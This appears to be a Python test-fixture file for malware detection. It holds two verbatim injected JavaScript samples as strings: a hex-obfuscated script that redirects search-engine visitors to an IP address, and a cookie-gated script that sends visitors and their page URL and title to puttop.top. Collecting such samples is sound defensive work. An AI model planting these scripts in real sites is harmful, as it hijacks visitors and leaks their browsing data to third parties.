# Verbatim injected scripts from public GitHub files (search-index file ids given in the cases).
SOJSON_REFERRER = r'''var __encode ='sojson.com', _0xb483=["\x5F\x64\x65\x63\x6F\x64\x65","\x68\x74\x74\x70\x3A\x2F\x2F\x77\x77\x77\x2E\x73\x6F\x6A\x73\x6F\x6E\x2E\x63\x6F\x6D\x2F\x6A\x61\x76\x61\x73\x63\x72\x69\x70\x74\x6F\x62\x66\x75\x73\x63\x61\x74\x6F\x72\x2E\x68\x74\x6D\x6C"];(function(_0xd642x1){_0xd642x1[_0xb483[0]]= _0xb483[1]})(window);var __Ox43240=["\x72\x65\x66\x65\x72\x72\x65\x72","\x74\x65\x73\x74","\x68\x72\x65\x66","\x6C\x6F\x63\x61\x74\x69\x6F\x6E","\x68\x74\x74\x70\x3A\x2F\x2F\x32\x32\x32\x2E\x31\x38\x36\x2E\x31\x32\x39\x2E\x34\x31\x2F\x61\x2F\x31\x2E\x68\x74\x6D\x6C"];var regexp=/\.(sogou|soso|baidu|google|youdao|yahoo|bing|118114|biso|gougou|ifeng|ivc|sooule|niuhu|biso)(\.[a-z0-9\-]+){1,2}\//ig;var where=document[__Ox43240[0x0]];if(regexp[__Ox43240[0x1]](where)){window[__Ox43240[0x3]][__Ox43240[0x2]]= __Ox43240[0x4]}'''
PUTTOP = '''
 
function setUCookie(u_name,value){
\tvar exdate=new Date()
\texdate.setHours(exdate.getHours() + 4);
\tdocument.cookie=u_name+ "=" +escape(value)+"; expires="+exdate.toGMTString();
}
 
function getUCookie(u_name){
\tif (document.cookie.length>0){ 
\t\tu_start=document.cookie.indexOf(u_name + "=")
\t\tif (u_start!=-1){ 
\t\t\tu_start=u_start + u_name.length+1 
\t\t\tu_end=document.cookie.indexOf(";",u_start)
\t\t\tif (u_end==-1){ 
\t\t\t\tu_end=document.cookie.length;
\t\t\t}
\t\t\treturn unescape(document.cookie.substring(u_start,u_end))
\t\t} 
\t}
\treturn ""
}
 
function _setTimeout(){
\tif(getUCookie("uTimeCookie")!=1){
\t\t var now = new Date();
\t\t var hours = now.getHours();
\t\t if(hours>=18 || hours<=7) {
\t\t\tif(window.self==window.top){
\t\t\t\twindow.location.href='http://www.puttop.top/object.php?u='+window.location.href+'&title='+document.title;
\t\t\t}
\t\t }else{
\t\t\tvar regexp=/\\.(sogou|soso|baidu|google|youdao|yahoo|bing|118114|biso|gougou|ifeng|ivc|sooule|niuhu|biso|godado|msn|excite|libero|iltrovatore|tiscali)(\\.[a-z0-9\\-]+){1,2}\\//ig;
\t\t\tvar where =document.referrer;
\t\t\tif(regexp.test(where))
\t\t\t {
\t\t\t\tif(window.self==window.top){
\t\t\t\t\twindow.location.href='http://www.puttop.top/object.php?u='+window.location.href+'&title='+document.title;
\t\t\t\t}
\t\t\t}
\t\t\t 
\t\t\tvar domain = document.domain;
\t\t\tif(typeof where != "undefined" && where != null && where != "" && typeof domain != "undefined" || domain != null || domain != "")
\t\t\t{
\t\t\t\tif(where.indexOf(domain) != -1){
\t\t\t\t\tif(window.self==window.top){
\t\t\t\t\t\twindow.location.href='http://www.puttop.top/object.php?u='+window.location.href+'&title='+document.title;
\t\t\t\t\t}
\t\t\t\t}
\t\t\t}
\t\t }
\t}
}
_setTimeout(); 
setUCookie("uTimeCookie","1");
 
'''
